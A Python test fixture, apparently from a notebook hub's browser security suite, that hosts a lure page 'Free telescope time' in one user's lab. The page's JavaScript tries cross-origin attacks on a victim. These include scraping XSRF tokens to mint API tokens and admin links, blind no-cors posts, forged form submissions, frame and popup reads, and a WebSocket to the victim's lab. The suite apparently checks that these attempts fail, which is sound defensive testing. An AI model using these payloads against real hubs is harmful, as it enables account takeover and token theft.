"""A lab that serves a page without login, whose button acts for whoever presses it.

A lab's owner has many ways to answer on the lab's address with a program of their own, and none is
needed here: what browsers let the page do depends on its address alone. So the proxy is told that
the lab is where the test serves the page.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import requests
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By

from tests.browser.conftest import wait
from tests.lab_client import start_lab
from tests.platform_under_test import Platform, wait_for

__all__ = ["HostileLab", "hostile_lab"]

_PAGE = """<!DOCTYPE html><title>Free telescope time</title>
<button id="go">Claim</button><pre id="result"></pre>
<script>
const query = new URLSearchParams(location.search);
const main = query.get("main"), victim = query.get("victim"), lab = query.get("lab");
const attempts = {
  async token() {
    const page = await (await fetch(`${main}/nb/hub/token`, {credentials: "include"})).text();
    const key = page.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch(`${main}/nb/hub/api/users/${victim}/tokens?_xsrf=${key}`, {
      method: "POST", credentials: "include", body: JSON.stringify({note: "stolen", expires_in: 600}),
      headers: {"Content-Type": "application/json"}});
    return (await made.json()).token;
  },
  async link() {
    const page = await (await fetch(`${main}/nb/hub/home`, {credentials: "include"})).text();
    const key = page.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch(`${main}/nb/hub/api/firstlight/links?_xsrf=${key}`, {
      method: "POST", credentials: "include", body: JSON.stringify({user: "stolen", admin: true}),
      headers: {"Content-Type": "application/json"}});
    return (await made.json()).url;
  },
  async name() {
    return (await (await fetch(`${main}/nb/hub/firstlight/me`, {credentials: "include"})).json()).name;
  },
  async blind() {
    for (const body of [JSON.stringify({note: "stolen blindly", expires_in: 600}), "_xsrf="]) {
      await fetch(`${main}/nb/hub/api/users/${victim}/tokens`,
        {method: "POST", mode: "no-cors", credentials: "include", body});
    }
    return "";
  },
  frame: () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.body.textContent.includes(victim) ? "read" : ""); }
      catch { done(""); }
    };
    frame.src = `${main}/nb/hub/home`;
    document.body.append(frame);
  }),
  window: () => new Promise((done) => {
    const opened = open(`${main}/nb/hub/home`);
    let left = 100;
    const look = () => {
      let read = "";
      try { read = opened.document.querySelector("h1").textContent; } catch {}
      if (read || left-- === 0) { opened?.close(); done(read); } else setTimeout(look, 50);
    };
    look();
  }),
  form: () => new Promise((done) => {
    for (const path of ["logout", "spawn", "link"]) {
      const frame = Object.assign(document.createElement("iframe"), {name: `to-${path}`});
      const form = Object.assign(document.createElement("form"),
        {method: "post", action: `${main}/nb/hub/${path}`, target: frame.name});
      form.append(Object.assign(document.createElement("input"), {name: "_xsrf", value: "guess"}));
      document.body.append(frame, form);
      form.submit();
    }
    const image = new Image();
    image.onload = image.onerror = () => setTimeout(() => done(""), 1000);
    image.src = `${main}/nb/hub/logout`;
  }),
  socket: () => new Promise((done) => {
    const socket = new WebSocket(`${lab.replace("http", "ws")}/api/events/subscribe`);
    socket.onopen = () => done("open");
    socket.onerror = socket.onclose = () => done("");
  }),
};
document.getElementById("go").addEventListener("click", async () => {
  const gained = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { gained[name] = (await attempt()) || ""; } catch { gained[name] = ""; }
  }
  document.getElementById("result").textContent = JSON.stringify(gained);
});
</script>"""


@dataclass(frozen=True)
class HostileLab:
    """Somebody's lab, whose address leads to the page."""

    platform: Platform
    owner: str
    target: str

    def lead_to(self, target: str) -> str:
        """Let the lab's address lead somewhere, and return where it led before."""
        routes = f"{self.platform.component('proxy')['url']}/api/routes"
        headers = {"Authorization": f"token {self.platform.secret('proxy_token')}"}
        found: dict[str, dict[str, Any]] = requests.get(routes, headers=headers, timeout=10).json()
        (name,) = (name for name in found if name.endswith(f"/user/{self.owner}"))
        data = {**found[name], "target": target}
        answer = requests.post(routes + quote(name), json=data, headers=headers, timeout=10)
        answer.raise_for_status()
        return str(found[name]["target"])

    def open(self, browser: Chrome, query: str) -> None:
        """Open the page."""

        def opened() -> bool:
            self.lead_to(self.target)  # the hub corrects its routes every few seconds
            browser.get(f"{self.platform.lab(self.owner)}/trap?{query}")
            return bool(browser.find_elements(By.ID, "go"))

        wait_for(opened, what="the hostile lab's page")

    def lure(self, browser: Chrome, victim: str) -> dict[str, Any]:
        """Let a victim press the button; return what was gained by each attempt, empty if nothing."""
        platform = self.platform
        lab = platform.lab(victim)
        self.open(browser, f"main={platform.url}&victim={victim}&lab={lab}")
        browser.find_element(By.ID, "go").click()
        said = wait(browser, 60).until(lambda b: b.find_element(By.ID, "result").text)
        gained: dict[str, Any] = json.loads(said)
        return gained


class _Trap(BaseHTTPRequestHandler):
    """Answers each request with the page, and with the cookies that the request names."""

    def do_GET(self) -> None:
        self.send_response(200)
        for cookie in parse_qs(urlsplit(self.path).query).get("cookie", []):
            self.send_header("Set-Cookie", cookie)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(_PAGE.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def hostile_lab(platform: Platform, owner: str) -> Iterator[HostileLab]:
    """Let a lab's address lead to the page, until the end."""
    start_lab(platform, owner)
    with ThreadingHTTPServer(("127.0.0.1", 0), _Trap) as server:
        Thread(target=server.serve_forever).start()
        lab = HostileLab(platform, owner, f"http://127.0.0.1:{server.server_port}")
        before = lab.lead_to(lab.target)
        try:
            yield lab
        finally:
            lab.lead_to(before)
            server.shutdown()
